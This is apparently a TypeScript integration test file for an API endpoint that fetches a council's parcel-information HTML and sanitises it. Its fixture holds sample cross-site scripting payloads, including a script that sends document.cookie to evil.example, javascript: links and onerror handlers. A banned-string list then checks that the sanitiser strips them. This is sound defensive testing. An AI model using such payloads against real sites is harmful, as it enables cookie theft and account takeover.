import { siteLocationMessages, type MapConfig, defined, locationsContract, lookupsContract } from '@consent/domain';
import type { FastifyInstance } from 'fastify';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startWireServer, type WireServer } from '../integrations/support/wireServer.js';
import { createApplication, createTestApp, registerUser, type Client } from '../support/app.js';
import { councilIds, mapConfigSetter } from '../support/councils.js';
import { feature, parcelsOf } from '../support/siteLocation.js';
import { answerOf, refusalOf } from '../support/answer.js';

/**
 * GET /api/applications/{appId}/parcels/{appParcelId}/information: the HTML the council's Ozone
 * get-parcel (or TechOne get-info) answers for the parcel information area, sanitised server-side.
 */
let app: FastifyInstance;
let client: Client;
let server: WireServer;
let councilId: number;
let appId: number;
let appParcelId: number;
let saved: { street: string; valuationNumber: string; suburb: string; city: string };
let setMap: (changes: Partial<MapConfig>) => Promise<void>;

/** Ozone's get-parcel answer, with what a hostile or careless council page might carry. */
const councilHtml = [
  '<div class="ozone"><table><tr><th>Zone</th><td onclick="steal()">Residential</td></tr></table>',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<p style="background:url(javascript:alert(1))">Flood <b>overlay</b></p>',
  '<iframe src="https://evil.example"></iframe><img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">bad link</a> <a href="https://maps.council.govt.nz/p/12">Council map</a></div>',
].join('');

beforeAll(async () => {
  app = await createTestApp();
  server = await startWireServer();
  client = await registerUser(app, 'parcel-info');
  councilId = defined((await councilIds(app))['Auckland Council'], "(await councilIds(app))['Auckland Council']");
  appId = await createApplication(client, { type: 2, param: 'standard', role: 'owner', councilId });
  // The parcel is found and saved while the council still answers from our own register.
  const parcel = defined(
    (await parcelsOf(client, appId, '12 Ponsonby Road')).parcels[0],
    'a parcel at 12 Ponsonby Road',
  );
  saved = parcel.location;
  const response = await client.post('/ajax/parcel', {
    appId,
    features: [feature(parcel.location)],
    parcel_opt: 'single',
  });
  appParcelId = defined(answerOf(response, locationsContract.save).app_parcel_id[0], 'the saved parcel id');
  setMap = await mapConfigSetter(app, councilId);
});
afterEach(async () => {
  server.requests.length = 0;
  await setMap({});
});
afterAll(async () => {
  await server?.close();
  await app?.close();
});

const information = (as: Client = client, id = appId, parcelId = appParcelId) =>
  as.get(`/api/applications/${id}/parcels/${parcelId}/information`);

function expectSanitised(html: string) {
  expect(html).toContain('<table><tr><th>Zone</th><td>Residential</td></tr></table>');
  expect(html).toContain('<p>Flood <b>overlay</b></p>');
  expect(html).toContain(
    '<a href="https://maps.council.govt.nz/p/12" rel="noopener noreferrer nofollow" target="_blank">Council map</a>',
  );
  for (const banned of [
    '<script',
    'document.cookie',
    'onclick',
    'onerror',
    'style',
    '<iframe',
    '<img',
    'javascript:',
    'class=',
  ]) {
    expect(html, banned).not.toContain(banned);
  }
}

describe('the parcel information area shows the council’s HTML', () => {
  it('asks Ozone get-parcel {job_id, valuation_number, site_address} and answers its HTML sanitised', async () => {
    expect(saved.valuationNumber).not.toBe('');
    server.reply({ body: { html: councilHtml } });
    await setMap({ OzoneParcel: true, OzoneBaseUrl: `${server.url}/` });
    const response = await information();
    expect(response.statusCode).toBe(200);
    expect(answerOf(response, lookupsContract.parcelInformation)).toMatchObject({ result: 'success', source: 'ozone' });
    expectSanitised(answerOf(response, lookupsContract.parcelInformation).html);
    expect(server.last()).toMatchObject({ method: 'POST', path: '/a2/ozone/get-parcel' });
    expect(server.last().json()).toEqual({
      job_id: appId,
      valuation_number: saved.valuationNumber,
      site_address: '12 Ponsonby Road',
    });
  });

  it('asks TechOne get-info/json when the council uses TechOne, and shows its html sanitised', async () => {
    server.reply({ body: { html: councilHtml, features: [] } });
    await setMap({ TechOneParcel: true, TechOneUrl: `${server.url}/techone` });
    const response = await information();
    expect(answerOf(response, lookupsContract.parcelInformation)).toMatchObject({
      result: 'success',
      source: 'techone',
    });
    expectSanitised(answerOf(response, lookupsContract.parcelInformation).html);
    expect(server.last()).toMatchObject({ method: 'POST', path: '/techone/get-info/json' });
    expect(server.last().json()).toEqual({
      job_id: appId,
      site_address: '12 Ponsonby Road',
      search_address: ['12 Ponsonby Road', saved.suburb, saved.city].filter(Boolean).join(', '),
    });
  });

  it('answers an empty panel, asking nobody, when the council has no such service (or a switch without its URL)', async () => {
    for (const config of [{}, { OzoneParcel: true, OzoneBaseUrl: '' }, { TechOneParcel: true, TechOneUrl: '' }]) {
      await setMap(config);
      const response = await information();
      expect(response.statusCode).toBe(200);
      expect(answerOf(response, lookupsContract.parcelInformation)).toEqual({
        result: 'success',
        source: null,
        html: '',
      });
    }
    expect(server.requests).toHaveLength(0);
  });

  it('answers an empty panel with a message, not a 5xx, when the service fails, answers nonsense or is unreachable', async () => {
    await setMap({ OzoneParcel: true, OzoneBaseUrl: server.url });
    for (const reply of [
      { status: 500, body: 'Internal error' },
      { body: { nothing: 'here' } },
      { body: '<html>not json</html>' },
    ]) {
      server.reply(reply);
      const response = await information();
      expect(response.statusCode, JSON.stringify(reply)).toBe(200);
      expect(answerOf(response, lookupsContract.parcelInformation)).toEqual({
        result: 'success',
        source: 'ozone',
        html: '',
        message: siteLocationMessages.parcelInfoFailed,
      });
    }
    const closed = await startWireServer();
    await closed.close();
    await setMap({ TechOneParcel: true, TechOneUrl: closed.url });
    expect(answerOf(await information(), lookupsContract.parcelInformation)).toEqual({
      result: 'success',
      source: 'techone',
      html: '',
      message: siteLocationMessages.parcelInfoFailed,
    });
  });

  it('is the owner’s only: another user, another application’s parcel and an unknown parcel get 404 and ask nobody', async () => {
    server.reply({ body: { html: councilHtml } });
    await setMap({ OzoneParcel: true, OzoneBaseUrl: server.url });
    const stranger = await registerUser(app, 'parcel-info-stranger');
    expect((await information(stranger)).statusCode).toBe(404);
    const strangersApp = await createApplication(stranger, { type: 2, param: 'standard', role: 'owner', councilId });
    expect((await information(stranger, strangersApp, appParcelId)).statusCode).toBe(404);
    const unknown = await information(client, appId, appParcelId + 1000);
    expect(unknown.statusCode).toBe(404);
    expect(refusalOf(unknown).message).toBe(siteLocationMessages.parcelNotFound);
    expect(server.requests).toHaveLength(0);
    expect(
      (await app.inject({ method: 'GET', url: `/api/applications/${appId}/parcels/${appParcelId}/information` }))
        .statusCode,
    ).toBe(401);
  });

  it('refuses ids that are not ids with 400', async () => {
    expect((await information(client, appId, 'x' as unknown as number)).statusCode).toBe(400);
  });
});
